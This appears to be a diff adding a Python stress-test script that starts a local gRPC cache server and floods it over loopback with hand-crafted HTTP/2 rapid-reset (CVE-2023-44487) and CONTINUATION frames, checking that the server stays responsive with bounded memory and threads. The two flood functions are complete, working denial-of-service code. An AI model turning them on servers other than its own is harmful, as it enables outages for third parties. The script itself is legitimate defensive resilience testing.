@@ -1,0 +1,215 @@
+#!/usr/bin/env python3
+"""Protocol abuse against a real cache_server, for a bounded time, while a
+Python grpcio client probes it: the server must keep answering the probe
+within its deadline, and its memory and thread count must stay bounded.
+
+Two floods, hand-written HTTP/2 frames over loopback (no HTTP/2 library):
+  rapid reset    HEADERS then RST_STREAM, as fast as possible, on 2 connections
+                 (CVE-2023-44487);
+  continuation   one HEADERS frame without END_HEADERS followed by endless
+                 CONTINUATION frames (a header block that never ends).
+
+  bench/http2_abuse.py PATH_TO_CACHE_SERVER [--seconds=S] [--only=rapid|continuation] [SERVER FLAGS]
+
+Prints 'N passed, N failed' and exits non-zero on any failure.
+"""
+import os
+import socket
+import struct
+import subprocess
+import sys
+import threading
+import time
+
+import grpc
+
+GET = "/cache.v1.CacheService/Get"
+
+# HTTP/2 frame types and flags (RFC 9113).
+HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0x1, 0x3, 0x4, 0x9
+END_STREAM, END_HEADERS = 0x1, 0x4
+CANCEL = 0x8
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
+        ">I", stream & 0x7FFFFFFF) + payload
+
+
+def hpack_int(value, prefix_bits, first_byte=0):
+    """An HPACK integer with an N-bit prefix (RFC 7541 5.1)."""
+    limit = (1 << prefix_bits) - 1
+    if value < limit:
+        return bytes([first_byte | value])
+    out = [first_byte | limit]
+    value -= limit
+    while value >= 128:
+        out.append(value % 128 + 128)
+        value //= 128
+    out.append(value)
+    return bytes(out)
+
+
+def hpack_string(data):
+    return hpack_int(len(data), 7) + data
+
+
+def literal(name, value):
+    """Literal header field without indexing, new name (RFC 7541 6.2.2)."""
+    return b"\x00" + hpack_string(name) + hpack_string(value)
+
+
+def request_headers(authority):
+    # :method POST (static 3), :scheme http (static 6), :path and :authority
+    # as literals with an indexed name (static 4 and 1).
+    return (b"\x83\x86" + hpack_int(4, 4) + hpack_string(GET.encode()) +
+            hpack_int(1, 4) + hpack_string(authority.encode()) +
+            literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))
+
+
+def connect(address):
+    host, port = address.rsplit(":", 1)
+    sock = socket.create_connection((host, int(port)), timeout=5)
+    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
+    # Drain whatever the server sends, so that its writes never block ours.
+    def drain():
+        try:
+            while sock.recv(65536):
+                pass
+        except OSError:
+            pass
+    threading.Thread(target=drain, daemon=True).start()
+    return sock
+
+
+def rapid_reset(address, stop, counter):
+    try:
+        sock = connect(address)
+        headers = request_headers(address)
+        stream = 1
+        while not stop.is_set():
+            batch = bytearray()
+            for _ in range(100):
+                batch += frame(HEADERS, END_HEADERS, stream, headers)
+                batch += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
+                stream += 2
+            sock.sendall(batch)
+            counter[0] += 100
+            if stream > 0x7FFFFFF0:
+                sock.close()
+                sock = connect(address)
+                stream = 1
+    except OSError:
+        counter[1] += 1  # the server dropped us; count it and stop
+
+
+def continuation_flood(address, stop, counter):
+    try:
+        sock = connect(address)
+        sock.sendall(frame(HEADERS, 0, 1, request_headers(address)))
+        junk = literal(b"x-junk", b"j" * 16000)
+        chunk = frame(CONTINUATION, 0, 1, junk)
+        while not stop.is_set():
+            sock.sendall(chunk * 8)
+            counter[0] += len(chunk) * 8
+    except OSError:
+        counter[1] += 1  # the server closed the connection: a defence
+
+
+def status_of(pid):
+    values = {}
+    with open("/proc/%d/status" % pid) as f:
+        for line in f:
+            key, _, rest = line.partition(":")
+            values[key] = rest.strip()
+    return int(values["VmRSS"].split()[0]) // 1024, int(values["Threads"])
+
+
+def main():
+    binary = sys.argv[1]
+    seconds = 10.0
+    extra = []
+    only = None
+    for arg in sys.argv[2:]:
+        if arg.startswith("--seconds="):
+            seconds = float(arg.split("=", 1)[1])
+        elif arg.startswith("--only="):
+            only = arg.split("=", 1)[1]
+        else:
+            extra.append(arg)
+    passed, failed = 0, 0
+
+    def check(name, condition, detail=""):
+        nonlocal passed, failed
+        if condition:
+            passed += 1
+            print("ok    " + name + (" (" + detail + ")" if detail else ""))
+        else:
+            failed += 1
+            print("FAIL  " + name + (": " + detail if detail else ""))
+
+    server = subprocess.Popen([binary] + extra, stdout=subprocess.PIPE,
+                              stderr=subprocess.DEVNULL, text=True)
+    line = server.stdout.readline()
+    if not line.startswith("listening on "):
+        server.kill()
+        print("cache_server did not start: %r" % line)
+        print("0 passed, 1 failed")
+        return 1
+    address = line.split()[-1]
+    try:
+        channel = grpc.insecure_channel(address)
+        get = channel.unary_unary(GET)
+
+        def probe():
+            try:
+                get(b"\n\x01k", timeout=1.0)
+            except grpc.RpcError as e:
+                return e.code() == grpc.StatusCode.NOT_FOUND
+            return True
+
+        check("probe answers before the floods", probe())
+        rss0, threads0 = status_of(server.pid)
+        for name, flood, connections in (("rapid reset", rapid_reset, 2),
+                                         ("continuation flood", continuation_flood, 1)):
+            if only is not None and not name.startswith(only):
+                continue
+            stop = threading.Event()
+            counters = [[0, 0] for _ in range(connections)]
+            workers = [threading.Thread(target=flood, args=(address, stop, counters[i]),
+                                        daemon=True) for i in range(connections)]
+            for w in workers:
+                w.start()
+            probes, answered, peak_rss, peak_threads = 0, 0, 0, 0
+            end = time.monotonic() + seconds
+            while time.monotonic() < end:
+                probes += 1
+                answered += probe()
+                rss, threads = status_of(server.pid)
+                peak_rss, peak_threads = max(peak_rss, rss), max(peak_threads, threads)
+                time.sleep(0.2)
+            stop.set()
+            for w in workers:
+                w.join(timeout=5)
+            sent = sum(c[0] for c in counters)
+            dropped = sum(c[1] for c in counters)
+            detail = "%d/%d probes, peak RSS %d MB (+%d), peak threads %d, sent %d, dropped %d" % (
+                answered, probes, peak_rss, peak_rss - rss0, peak_threads, sent, dropped)
+            check(name + ": every probe answered within 1 s", answered == probes, detail)
+            check(name + ": RSS grows by less than 100 MB", peak_rss - rss0 < 100, detail)
+            check(name + ": threads stay under 300", peak_threads < 300, detail)
+            time.sleep(1)
+        check("probe answers after the floods", probe())
+    finally:
+        server.terminate()
+        try:
+            server.wait(timeout=15)
+        except subprocess.TimeoutExpired:
+            server.kill()
+    print("%d passed, %d failed" % (passed, failed))
+    return 0 if failed == 0 else 1
+
+
+if __name__ == "__main__":
+    sys.exit(main())
